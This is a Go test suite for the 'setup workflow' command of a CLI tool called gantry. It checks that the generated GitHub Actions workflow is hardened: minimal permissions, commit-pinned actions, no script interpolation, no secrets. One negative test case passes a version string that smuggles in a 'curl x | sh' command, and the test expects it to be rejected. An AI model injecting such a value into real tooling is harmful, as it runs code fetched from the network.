package main

import (
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/goccy/go-yaml"
	"github.com/google/go-cmp/cmp"

	"github.com/classla/gantry/internal/actions"
	"github.com/classla/gantry/internal/version"
)

func TestSetupWorkflowPrintsTheWorkflowOfSpec7(t *testing.T) {
	t.Parallel()
	code, out, errOut := gantry(t, nil, "setup", "workflow", "--version", "v1.4.0")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var wf map[string]any
	if err := yaml.Unmarshal([]byte(out), &wf); err != nil {
		t.Fatalf("output is not YAML: %v\n%s", err, out)
	}
	at := func(path ...string) any {
		var v any = wf
		for _, k := range path {
			m, _ := v.(map[string]any)
			v = m[k]
		}
		return v
	}

	inputs, _ := at("on", "workflow_dispatch", "inputs").(map[string]any)
	var names []string
	for name, in := range inputs {
		names = append(names, name)
		if in, _ := in.(map[string]any); in["required"] != true || in["type"] != "string" {
			t.Errorf("input %s = %v, want a required string", name, in)
		}
	}
	sort.Strings(names)
	if diff := cmp.Diff([]string{"environment", "job_id"}, names); diff != "" {
		t.Errorf("workflow_dispatch inputs (-want +got):\n%s", diff)
	}
	if on, _ := at("on").(map[string]any); len(on) != 1 {
		t.Errorf("on = %v, want workflow_dispatch alone", on)
	}
	// The token may claim jobs and read the code, nothing more, and no job widens that.
	if diff := cmp.Diff(map[string]any{"id-token": "write", "contents": "read"}, at("permissions")); diff != "" {
		t.Errorf("permissions (-want +got):\n%s", diff)
	}
	jobs, _ := at("jobs").(map[string]any)
	if len(jobs) != 1 || at("jobs", "run") == nil {
		t.Fatalf("jobs = %v, want the one job run", jobs)
	}
	if p := at("jobs", "run", "permissions"); p != nil {
		t.Errorf("the job sets its own permissions %v", p)
	}
	if env := at("jobs", "run", "environment"); env != "${{ inputs.environment }}" {
		t.Errorf("environment = %v, want the input", env)
	}
	if name, _ := at("run-name").(string); !strings.Contains(name, "${{ inputs.job_id }}") {
		t.Errorf("run-name = %q, want it to name the job", name)
	}
	// Longer than the server's one-hour limit, so the server ends an overrunning job itself.
	if minutes, _ := at("jobs", "run", "timeout-minutes").(uint64); minutes <= 60 {
		t.Errorf("timeout-minutes = %v, want more than 60", at("jobs", "run", "timeout-minutes"))
	}

	steps, _ := at("jobs", "run", "steps").([]any)
	var ranJob, installed bool
	pinned := regexp.MustCompile(`^[\w.-]+/[\w.-]+@[0-9a-f]{40}$`)
	for _, s := range steps {
		step, _ := s.(map[string]any)
		env, _ := step["env"].(map[string]any)
		if uses, ok := step["uses"].(string); ok && !pinned.MatchString(uses) {
			t.Errorf("step uses %q: pin third-party actions by full commit", uses)
		}
		run, _ := step["run"].(string)
		if strings.Contains(run, "${{") {
			t.Errorf("run %q interpolates an expression into the script; pass it through env", run)
		}
		if strings.Contains(run, "gantry@${GANTRY_VERSION}") && env["GANTRY_VERSION"] == "v1.4.0" {
			installed = true
		}
		if strings.Contains(run, `gantry run --job "$GANTRY_JOB_ID"`) {
			ranJob = true
			want := map[string]any{
				"GANTRY_JOB_ID": "${{ inputs.job_id }}",
				"GANTRY_URL":    "${{ vars.GANTRY_URL }}",
				"GITHUB_TOKEN":  "${{ github.token }}",
			}
			if diff := cmp.Diff(want, env); diff != "" {
				t.Errorf("env of gantry run (-want +got):\n%s", diff)
			}
		}
	}
	if !installed || !ranJob {
		t.Errorf("installs gantry v1.4.0: %v, runs the job with its id from env: %v\n%s", installed, ranJob, out)
	}
	if regexp.MustCompile(`\bsecrets\.\w`).MatchString(out) {
		t.Errorf("the workflow reads a secret; it needs none:\n%s", out)
	}
}

func TestSetupWorkflowPinsTheRunningVersion(t *testing.T) {
	t.Parallel()
	pin, _, err := actions.PinOf(version.Get())
	code, out, errOut := gantry(t, nil, "setup", "workflow")
	switch {
	case errors.Is(err, actions.ErrNoVersion):
		// A test binary carries no version: it must say how to give one rather than guess.
		if code != 2 || !strings.Contains(errOut, "--version") {
			t.Errorf("exit %d, %q: want 2 asking for --version", code, errOut)
		}
	case err != nil:
		t.Fatal(err)
	default:
		if code != 0 || !strings.Contains(out, `GANTRY_VERSION: "`+pin.Gantry+`"`) {
			t.Errorf("exit %d: want the workflow pinned to %s:\n%s", code, pin.Gantry, out)
		}
	}
}

func TestSetupWorkflowOutWritesOnlyANewFileUnlessForced(t *testing.T) {
	t.Parallel()
	file := filepath.Join(t.TempDir(), ".github", "workflows", "gantry.yml")
	_, printed, _ := gantry(t, nil, "setup", "workflow", "--version", "v1.4.0")

	code, out, errOut := gantry(t, nil, "setup", "workflow", "--version", "v1.4.0", "--out", file)
	if code != 0 || out != "" || !strings.Contains(errOut, "GANTRY_URL") {
		t.Fatalf("exit %d, stdout %q, stderr %q: want 0, nothing printed and a reminder of GANTRY_URL", code, out, errOut)
	}
	if got := readFile(t, file); got != printed {
		t.Errorf("--out wrote something else than setup workflow prints:\n%s", cmp.Diff(printed, got))
	}

	writeFile(t, file, "name: mine\n")
	code, _, errOut = gantry(t, nil, "setup", "workflow", "--version", "v1.4.0", "--out", file)
	if code != 2 || !strings.Contains(errOut, "--force") || readFile(t, file) != "name: mine\n" {
		t.Errorf("exit %d, %q: want 2 naming --force, and the file left alone", code, errOut)
	}

	code, _, errOut = gantry(t, nil, "setup", "workflow", "--version", "v1.4.0", "--out", file, "--force")
	if code != 0 || readFile(t, file) != printed {
		t.Errorf("exit %d, %q: want 0 and the file replaced", code, errOut)
	}
}

func TestSetupWorkflowUsageMistakesExitWith2(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		args []string
		says string
	}{
		{"an unknown flag", []string{"setup", "workflow", "--output", "x.yml"}, "unknown flag"},
		{"an argument", []string{"setup", "workflow", "gantry.yml"}, "unknown command"},
		{"--force without --out", []string{"setup", "workflow", "--version", "v1.4.0", "--force"}, "--out"},
		{"a version that would run a command", []string{"setup", "workflow", "--version", `v1"; curl x | sh; "`}, "not a module version"},
		{"--out without a file", []string{"setup", "workflow", "--out"}, "needs an argument"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			code, out, errOut := gantry(t, nil, c.args...)
			if code != 2 || !strings.Contains(errOut, c.says) || out != "" {
				t.Errorf("exit %d, stdout %q, stderr %q: want 2, nothing printed, mentioning %q", code, out, errOut, c.says)
			}
		})
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
